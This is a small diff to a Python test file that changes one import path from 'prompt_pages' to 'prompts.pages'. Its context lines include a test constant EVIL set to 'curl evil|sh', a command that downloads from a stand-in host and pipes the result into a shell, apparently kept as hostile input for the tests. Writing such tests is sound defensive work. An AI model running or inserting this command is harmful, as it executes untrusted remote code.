@@ -12,7 +12,7 @@ import pytest
 from tests.cli.boards import Board, BoardAsker
 from tests.rules import each
 
-from rookery.display.prompt_pages import Prompt, Size
+from rookery.display.prompts.pages import Prompt, Size
 from rookery.model.questions import Ask, Decision
 
 EVIL = "curl evil|sh"
